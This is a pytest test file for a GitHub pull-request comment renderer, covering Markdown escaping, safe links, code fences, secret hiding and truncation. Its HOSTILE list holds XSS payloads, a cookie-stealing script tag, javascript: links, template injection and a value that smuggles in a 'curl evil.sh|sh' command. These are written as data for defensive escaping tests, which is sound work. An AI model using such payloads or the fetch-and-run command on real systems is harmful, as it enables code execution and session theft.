"""The PR comment: escaping of strangers' text, the template, the 65,535 character limit."""

from __future__ import annotations

import html
import re

import pytest

from provisioner.domain.difference import UNSET, Difference
from provisioner.domain.record import Record
from provisioner.github.comment import (
    MAX_COMMENT_CHARS,
    ZWSP,
    CommentInput,
    escape_markdown,
    fenced,
    link,
    marker,
    render_comment,
)

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "[link](javascript:x)",
    "@everyone",
    "@acme/security please look",
    "`rm -rf /` and ``double``",
    "{{ 7*7 }}",
    "{% for x in range(3) %}{{ x }}{% endfor %}",
    "<script>alert(document.cookie)</script>",
    "![pixel](https://evil.example/p.png)",
    "https://evil.example/login and www.evil.example and a@evil.example",
    "| broken | table |",
    "line one\nline two\r\n# heading\n- item",
    "**bold** _it_ ~~gone~~ $\\sqrt{2}$",
    "right-to-left \u202eexe.txt",
    "<!-- staging-provisioner:other-1234567 -->",
    "&lt;already&gt; &amp;",
    "x/$(curl${IFS}evil.sh|sh)`id`<img/src=x/onerror=alert(1)>{{7*7}}",
]


def markdown():
    markdown_it = pytest.importorskip("markdown_it")
    pytest.importorskip("linkify_it")
    return markdown_it.MarkdownIt("gfm-like")


def visible(text: str) -> str:
    """What a reader sees: the text on one line, invisible and control characters gone."""
    text = re.sub(r"[\r\n\t]", " ", text)
    return "".join(ch for ch in text if ch.isprintable() or ch == " ").replace("\u202e", "")


@pytest.mark.parametrize("text", HOSTILE)
def test_escaped_text_renders_as_itself_and_nothing_else(text):
    md = markdown()
    rendered = md.render(f"| a |\n|---|\n| {escape_markdown(text)} |\n")
    cell = re.search(r"<td>(.*)</td>", rendered, re.S).group(1)
    assert "<" not in cell.replace("&lt;", ""), cell            # no element: no img, a, script, em, code
    assert html.unescape(cell).replace(ZWSP, "") == visible(text)


@pytest.mark.parametrize("text", HOSTILE)
def test_escaped_text_has_no_raw_html_mentions_or_newlines(text):
    out = escape_markdown(text)
    assert "<" not in out and ">" not in out and "\n" not in out and "\r" not in out
    assert not re.search(r"@[A-Za-z0-9]", out)
    assert not re.search(r"(?<!\\)[`\[\]()*_|{}]", out)  # every Markdown character is escaped
    assert "\u202e" not in out


def test_links_only_for_plain_http_urls():
    assert link("env", "https://checkout-1a2b3c4.staging.acme.test/") == \
        "[env](https://checkout-1a2b3c4.staging.acme.test/)"
    for bad in ("javascript:alert(1)", "https://x.test/a)(b", "https://x.test/<img>", "data:text/html,x",
                "https://x.test/ onmouseover=x"):
        out = link("env", bad)
        assert "](" not in out and "<" not in out


def test_fence_cannot_be_closed_by_its_content():
    text = "before\n```\n<img src=x>\n````\nafter\x1b[31m"
    block = fenced(text)
    fence = block.split("text", 1)[0]
    assert len(fence) == 5 and block.endswith("\n" + fence)
    assert "\x1b" not in block


def record(**kw) -> Record:
    base = dict(slug="checkout-1a2b3c4", branch="feature/checkout", pr=7, owner="alice-dev", status="ready",
                outputs={"environment_url": "https://checkout-1a2b3c4.staging.acme.test",
                         "queue_url": "http://sqs.local/q", "public_subnet_ids": ["subnet-1", "subnet-2"]},
                expires_at=1_800_000_000.0, changes={"add": 31, "change": 0, "remove": 0})
    return Record(**{**base, **kw})


def diffs(n: int = 2, reason: str = "Preview traffic is one engineer.") -> list[Difference]:
    out = [Difference("db_password", "hunter2", "s3cret", "set", "No production credentials.",
                      sensitive=True),
           Difference("az_count", 3, 2, "set", reason)]
    out += [Difference(f"var_{i}", i * 10, i, "scale", reason) for i in range(n - 2)]
    return out[:n]


def comment(**kw) -> str:
    base = dict(slug="checkout-1a2b3c4", branch="feature/checkout", status="ready", pr=7,
                title="Add checkout",
                owner="alice-dev", record=record(), differences=diffs(),
                run_url="https://github.com/acme/shop/actions/runs/42")
    return render_comment(CommentInput(**{**base, **kw}))


def test_comment_holds_status_url_outputs_expiry_changes_differences_and_run():
    body = comment()
    assert body.splitlines()[0] == marker("checkout-1a2b3c4")
    assert "✅ ready" in body
    assert "](https://checkout-1a2b3c4.staging.acme.test)" in body
    rendered = markdown().render(body)
    assert ('<a href="https://checkout-1a2b3c4.staging.acme.test">https://checkout-1a2b3c4.staging.acme.test'
            '</a>') in rendered
    assert "2027-01-15T08:00:00Z" in body
    assert "31 to add, 0 to change, 0 to destroy" in body
    assert "[workflow run](https://github.com/acme/shop/actions/runs/42)" in body
    assert "Outputs (3)" in body and "subnet\\-1" in body
    assert "Differences from production (2)" in body
    assert "hunter2" not in body and "s3cret" not in body and "\\(sensitive\\)" in body
    assert "Truncated" not in body


def test_comment_output_selection_and_keep_and_destroyed():
    body = comment(output_names=("environment_url", "missing"), record=record(keep=True))
    assert "Outputs (1)" in body and "queue" not in body
    assert "kept" in body
    gone = comment(status="destroyed", record=record(status="destroyed", outputs={}), differences=())
    assert "destroyed" in gone and "Environment" not in gone and "Expires" not in gone


def test_unset_staging_value_is_spelled_out():
    body = comment(differences=[Difference("alarm_email", "ops@acme.example", UNSET, "drop", "No pages.")])
    assert "\\(module default\\)" in body and "ops@" + ZWSP + "acme" in body


def test_hostile_title_branch_owner_and_outputs_stay_data():
    evil = " ".join(HOSTILE)
    body = comment(title=evil, branch=evil, owner="mallory<b>", error="boom ``` <img src=x>",
                   record=record(outputs={"environment_url": "javascript:alert(1)", "x": evil}))
    md = markdown()
    rendered = md.render(body)
    assert "<img" not in rendered and "<script" not in rendered and "javascript:" not in rendered
    assert "49" not in body
    hrefs = re.findall(r'href="([^"]*)"', rendered)
    assert hrefs == ["https://github.com/acme/shop/actions/runs/42"]


def test_long_comment_is_truncated_with_a_visible_note():
    many = diffs(3000, reason="x" * 250)
    body = comment(differences=many)
    assert len(body) <= MAX_COMMENT_CHARS
    assert "**Truncated:**" in body and "of 3000 differences are not shown" in body
    shown = body.count("| scale |")
    assert 100 < shown < 2998
    assert body.rstrip().endswith("</details>")


def test_huge_outputs_are_truncated_too():
    outputs = {f"out_{i:04d}": "v" * 400 for i in range(1000)}
    body = comment(record=record(outputs=outputs), differences=diffs(50))
    assert len(body) <= MAX_COMMENT_CHARS
    assert "outputs are not shown" in body and "of 50 differences are not shown" in body


def test_a_small_limit_still_yields_a_valid_marked_comment():
    body = render_comment(CommentInput(slug="a-1234567", branch="b", status="failed", error="e" * 5000),
                          limit=1200)
    assert len(body) <= 1200 and body.startswith(marker("a-1234567")) and "truncated" in body


def test_marker_refuses_a_non_slug():
    with pytest.raises(ValueError):
        marker("x --> <img>")
